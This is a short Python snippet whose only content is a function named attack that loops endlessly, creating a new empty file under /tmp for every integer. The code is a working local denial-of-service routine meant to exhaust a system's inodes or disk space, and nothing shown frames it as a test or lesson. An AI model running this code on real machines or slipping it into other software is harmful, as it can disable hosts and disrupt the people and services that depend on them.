import itertools


def attack():
    for number in itertools.count():
        open(f"/tmp/{number}", "wb").close()
